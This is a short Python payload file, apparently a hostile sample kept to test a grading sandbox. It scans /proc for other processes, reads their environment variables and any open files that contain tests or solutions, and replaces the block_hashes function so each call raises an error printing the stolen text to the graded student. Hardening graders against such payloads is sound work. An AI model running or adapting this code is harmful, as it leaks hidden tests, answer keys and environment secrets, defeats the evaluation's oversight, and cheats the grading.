# World-readable reads through /proc: the grader's environment, its open files and its memory maps
# name the folders it works in; the worker follows /proc/<pid>/fd and /proc/<pid>/environ of every
# other process to read the tests and the solution. What it reads of them is put into the message of
# every block_hashes call, which a failed test shows the student.
import glob as _glob
import os as _os

# The payloads' own test runs them unconfined, limited to a folder of its own through this variable; a
# worker's environment is empty, so in a grading the payload aims at the whole machine.
_SCOPE = _os.environ.get("KVLAB_HOSTILE_SCOPE", "/")

_read = []
for _entry in _glob.glob("/proc/[0-9]*")[:400]:
    if _entry == f"/proc/{_os.getpid()}":
        continue
    for _name in ("environ",):
        try:
            with open(_os.path.join(_entry, _name), "rb") as _file:
                _read.append((_entry, _name, _file.read()[:200]))
        except OSError:
            pass
    try:
        for _fd in _os.listdir(_os.path.join(_entry, "fd"))[:50]:
            _target = _os.path.join(_entry, "fd", _fd)
            try:
                if not _os.readlink(_target).startswith(_SCOPE):
                    continue
                with open(_target, "rb") as _file:
                    _head = _file.read(3000)
                if b"def test_" in _head or b"BEGIN SOLUTION" in _head:
                    _read.append((_entry, _fd, _head))
            except OSError:
                pass
    except OSError:
        pass
print(f"HOSTILE read {len(_read)} things of other processes through /proc")
_own_block_hashes = block_hashes
_FOUND = [head.decode(errors="ignore") for _, _, head in _read if b"def test_" in head or b"BEGIN SOLUTION" in head]


def block_hashes(tokens, block_size, parent=None):
    if _FOUND:
        raise RuntimeError("HOSTILE read through /proc:\n" + "\n".join(_FOUND)[:30000])
    return _own_block_hashes(tokens, block_size, parent=parent)
